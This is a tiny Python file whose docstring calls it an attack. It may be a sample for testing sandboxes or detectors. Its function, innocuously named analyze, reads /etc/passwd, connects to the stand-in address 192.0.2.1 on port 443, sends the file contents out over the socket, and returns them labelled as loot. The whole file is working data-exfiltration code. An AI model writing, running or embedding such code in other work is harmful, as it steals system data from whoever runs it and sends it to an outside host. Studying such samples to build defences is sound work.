"""An attack: read what lies on the disk, and send it away."""


def analyze(data):
    """Try `open`, then a socket; hand back whatever was found."""
    found = []
    with open("/etc/passwd") as file:
        found.append(("/etc/passwd", file.read()))

    import socket

    with socket.create_connection(("192.0.2.1", 443), timeout=5) as out:
        out.sendall(repr(found).encode())
    return {"loot": found}
